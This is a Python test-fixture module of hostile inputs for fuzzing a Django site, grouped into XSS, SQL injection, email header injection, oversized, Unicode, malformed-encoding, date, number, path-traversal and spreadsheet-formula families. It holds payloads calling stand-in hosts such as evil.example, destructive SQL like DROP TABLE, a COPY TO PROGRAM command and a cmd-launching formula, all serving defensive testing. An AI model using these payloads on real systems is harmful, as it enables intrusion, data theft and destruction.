"""The hostile inputs, by family. Every value is a plain ``str`` meant to be percent-encoded by the sender, except the
``RAW_QUERY`` family: ready-made query-string fragments (invalid UTF-8 as percent-encoded bytes, broken escapes) that
must reach Django untouched.

Markers such as ``7331`` make a reflected payload easy to spot and impossible to confuse with the page's own markup.
"""

from __future__ import annotations

import zlib
from dataclasses import dataclass

MB = 1024 * 1024
URL_MAX = 8192


@dataclass(frozen=True)
class Payload:
    family: str
    value: str
    # True when the value is a query-string fragment to send as is (already percent-encoded or deliberately broken).
    raw: bool = False

    @property
    def id(self) -> str:
        # crc32, not hash(): ids must be the same in every process (hash() of a str is salted per run).
        return f"{self.family}-{zlib.crc32(self.value.encode('utf-8', 'surrogatepass')):08x}"

    def for_url(self) -> Payload:
        """The payload cut to what a URL can carry: gunicorn refuses request lines above 4094 bytes (nginx 8 KB), so a
        megabyte query string never reaches Django; megabyte values are tested in form bodies instead."""
        if len(self.value) <= URL_MAX:
            return self
        return Payload(self.family, self.value[:URL_MAX], self.raw)

    @property
    def dangerous_markup(self) -> bool:
        """Worth the "not reflected verbatim" check: long enough and able to open a tag or leave a double-quoted
        attribute (the templates quote every attribute with "). A lone ' reflected verbatim is harmless there, and
        expected inside JSON-LD, where Django's escaping leaves it alone."""
        return not self.raw and len(self.value) >= 8 and any(c in self.value for c in '<>"')


XSS = [
    "<script>alert(7331)</script>",
    "<SCRIPT SRC=//xss.example/7331.js></SCRIPT>",
    '"><script>alert(7331)</script>',
    "'><script>alert(7331)</script>",
    "</title><script>alert(7331)</script>",
    "</textarea><script>alert(7331)</script>",
    "</script><script>alert(7331)</script>",
    '<img src=x onerror="alert(7331)">',
    "<img src=x onerror=alert(7331)//",
    "<svg onload=alert(7331)>",
    "<svg><script>alert(7331)</script></svg>",
    "<body onload=alert(7331)>",
    "<iframe src=javascript:alert(7331)>",
    "<iframe srcdoc='<script>alert(7331)</script>'>",
    '<a href="javascript:alert(7331)">clic7331</a>',
    "javascript:alert(7331)",
    "JaVaScRiPt:alert(7331)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3MzMxKTwvc2NyaXB0Pg==",
    '" onmouseover="alert(7331)" x="',
    "' onfocus='alert(7331)' autofocus='",
    '" autofocus onfocus=alert(7331) "',
    "<details open ontoggle=alert(7331)>",
    "<input autofocus onfocus=alert(7331)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(7331)>",
    "<object data=javascript:alert(7331)>",
    "<embed src=javascript:alert(7331)>",
    "<base href=//evil.example/7331/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example/7331">',
    "<link rel=stylesheet href=//evil.example/7331.css>",
    "<style>@import '//evil.example/7331.css';</style>",
    '<div style="background:url(javascript:alert(7331))">x7331</div>',
    "<marquee onstart=alert(7331)>",
    "<video><source onerror=alert(7331)>",
    "<form action=//evil.example/7331><button>x</button></form>",
    "&lt;script&gt;alert(7331)&lt;/script&gt;",
    "&#60;script&#62;alert(7331)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(7331)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(7331)</scr</script>ipt>",
    "<<script>alert(7331);//<</script>",
    "<!--<script>alert(7331)</script>-->",
    "<![CDATA[<script>alert(7331)</script>]]>",
    "{{7331*7331}}",
    "{% debug %}7331",
    "{{ request.META }}7331",
    "{{ settings.SECRET_KEY }}7331",
    "${7331*7331}",
    "#{7331*7331}",
    "<%= 7331*7331 %>",
    "\u202e<script>alert(7331)</script>",
    "\ufeff<script>alert(7331)</script>",
    "<ſcript>alert(7331)</ſcript>",
    "＜script＞alert(7331)＜/script＞",
    '"><svg/onload=alert(7331)>',
    "<x onclick=alert(7331)>cliccami7331</x>",
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1--",
    '" OR "1"="1',
    "') OR ('1'='1",
    "1' OR '1'='1' /*",
    "'; DROP TABLE projects_project;--",
    "1; DROP TABLE registrations_registration",
    "'; TRUNCATE auth_user; --",
    "' UNION SELECT NULL,NULL,NULL--",
    "' UNION SELECT username, password FROM auth_user--",
    "1 UNION ALL SELECT version()",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "'; SELECT pg_sleep(5);--",
    "1' AND pg_sleep(5) IS NULL--",
    "' OR SLEEP(5)#",
    "1 AND (SELECT COUNT(*) FROM pg_catalog.pg_tables) > 0",
    "admin'--",
    "%' OR 1=1 --",
    "%%",
    "%_%",
    "_",
    "\\",
    "\\'",
    "''''''''",
    ";",
    "--",
    "/**/",
    "1e309",
    "-1",
    "0x7fffffff",
    "1' ORDER BY 100--",
    "' || (SELECT current_user) || '",
    "$$; SELECT 1; $$",
    "E'\\x00'",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "'; COPY (SELECT '') TO PROGRAM 'id';--",
    "valore\x00nascosto",
    "\x00",
    "abc\x00<script>alert(7331)</script>",
    "SELECT * FROM projects_project WHERE 1=1",
    # Full-text query syntax (tsquery operators, websearch quirks).
    "!(&|:*",
    "a & | b",
    "':*",
    '"""',
    "or or or -",
    "- - -",
    "!!!!",
    "<->",
    "foo:* & !bar",
    "'\"''\"\"",
]

CRLF = [
    "Mario\r\nBcc: victim7331@evil.example",
    "Mario\nBcc: victim7331@evil.example",
    "Mario\rBcc: victim7331@evil.example",
    "Mario%0d%0aBcc:%20victim7331@evil.example",
    "mario@comune.example.it\r\nBcc: victim7331@evil.example",
    "mario@comune.example.it\nCc: victim7331@evil.example",
    "mario@comune.example.it%0aBcc:victim7331@evil.example",
    "mario@comune.example.it, victim7331@evil.example",
    "mario@comune.example.it; victim7331@evil.example",
    '"Mario\r\nBcc: victim7331@evil.example" <mario@comune.example.it>',
    "Mario\r\nSubject: vinci7331",
    "Mario\r\n\r\n<html>iniettato7331</html>",
    "Mario\r\nContent-Type: text/html\r\n\r\n<script>alert(7331)</script>",
    "Rossi\u2028Bcc: victim7331@evil.example",
    "Rossi\u0085Bcc: victim7331@evil.example",
    "X-Injected: 7331\r\n",
    "\r\n\r\n",
    "Set-Cookie: sessionid=7331",
    "Location: https://evil.example/7331",
    "=?utf-8?q?=0D=0ABcc:victim7331@evil.example?=",
]

LONG = [
    "A" * MB,
    "<" * MB,
    "è" * (MB // 2),
    ("<script>alert(7331)</script>" * (MB // 28))[:MB],
    "x" * 10_000,
    "parola " * 2_000,
    "a" * 255,
    "a" * 256,
    "a" * 101,
    "a" * 65_536,
]

UNICODE = [
    "Ünïcödé 7331 — “virgolette”",
    "日本語のテキスト7331",
    "مرحبا7331",
    "\U0001f600\U0001f4a9 7331",
    "e\u0301e\u0301e\u0301",
    "\u200b\u200b\u200b",
    "\u0000\u0001\u0002\u0003",
    "\x07\x08\x0b\x0c",
    "\ud800",
    "\udfff\ud800",
    "\uffff",
    "Z̸̡̢̛̖͇̤̙̬̈́̓̿̈́ä̶̡̝̖̠̳́l̴͙̈g̷͚̈ö̶̞́",
    "   ",
    "\t\t\t",
    "",
]

# Query-string fragments sent verbatim: invalid UTF-8 as percent-escapes, broken escapes, encoded NULs.
RAW_QUERY = [
    "%ff%fe",
    "%ff",
    "%c0%af",
    "%c0%80",
    "%ed%a0%80",
    "%f4%90%80%80",
    "%fe%ff%00%3c%00s",
    "%e2%28%a1",
    "%80%81%82",
    "%c3%28",
    "%a0%a1",
    "%f8%88%80%80%80",
    "%00",
    "%2500",
    "%%",
    "%zz",
    "%",
    "%u003cscript%u003e",
    "%3Cscript%3Ealert(7331)%3C%2Fscript%3E",
    "%22%3E%3Cscript%3Ealert(7331)%3C/script%3E",
    "%0d%0aSet-Cookie:%20x7331=1",
    "%0aLocation:%20//evil.example",
    "a%00b",
    "%ef%bb%bf",
    "%c2",
]

DATES = [
    "0000-00-00",
    "0000-01-01",
    "9999-12-31",
    "10000-01-01",
    "99999999-01-01",
    "-0001-01-01",
    "2024-02-30",
    "2023-02-29",
    "2024-13-01",
    "2024-00-10",
    "2024-12-32",
    "31/12/2024",
    "1970-01-01T00:00:00Z",
    "2038-01-19 03:14:08",
    "2024-06-01 25:61",
    "2024-06-01 23:59:60",
    "tomorrow",
    "ieri",
    "1e10",
    "NaN",
]

NUMBERS = [
    "-1",
    "0",
    "-0",
    "-2147483649",
    "2147483648",
    "9223372036854775808",
    "99999999999999999999999999999999",
    "1e400",
    "-1e400",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "1,5",
    "1.5",
    "١٢٣",
    "½",
    "   7   ",
    "+7",
    "07",
]

UNKNOWN = [
    "inesistente",
    "non-esiste-7331",
    "ONGOING",
    "ongoing ",
    "ongoing,completed",
    "-title",
    "__class__",
    "pk",
    "id__gt",
    "areas__name",
    "null",
    "None",
    "true",
    "undefined",
    "[]",
    "{}",
    '{"$ne": null}',
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "C:\\Windows\\win.ini",
]

FAMILIES: dict[str, list[str]] = {
    "xss": XSS,
    "sql": SQL,
    "crlf": CRLF,
    "long": LONG,
    "unicode": UNICODE,
    "date": DATES,
    "number": NUMBERS,
    "unknown": UNKNOWN,
}

ALL: list[Payload] = [Payload(family, value) for family, values in FAMILIES.items() for value in values] + [
    Payload("raw", value, raw=True) for value in RAW_QUERY
]

# A smaller, still varied set for the expensive targets (an admin form re-renders a large page on every POST).
FORM_SAMPLE: list[Payload] = [
    Payload(family, value)
    for family, values in FAMILIES.items()
    for value in values[: {"xss": 5, "sql": 4, "crlf": 4}.get(family, 2)]
]

# --- Issue 14: what an outside tester got through (appended by the security branch) ---------------------------------
# Spreadsheet formulas typed as a name or an Ente (finding 2): exports must quote them (core/spreadsheets.py).
FORMULA = [
    '=HYPERLINK("http://evil.test/?d="&C2,"Apri")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# What goes where a registration token is expected, as a raw path segment (finding 6): every one answers 404.
TOKEN_SEGMENTS = [
    "a%00",
    "%00",
    "a%0Ab",
    "%0D%0A",
    "%FF%FE",
    "..%2F..",
    "x" * 44,
    "a b",
    "%E2%80%AE" * 3,
    "Ab-_" * 10 + "%00ab",
    "'%20OR%201=1--",
]
# ?page= values that must not create page-cache keys (finding 6), and Host headers that must not reach a cache key
# or an absolute URL (finding 4).
PAGES = ["1001", "1050", "99999999999999999999", "0", "-1", "1e3", "01"]
HOSTS = ["127.0.0.1:31337", "127.0.0.1:31338", "localhost:8080"]

FAMILIES["formula"] = FORMULA
ALL += [Payload("formula", value) for value in FORMULA]
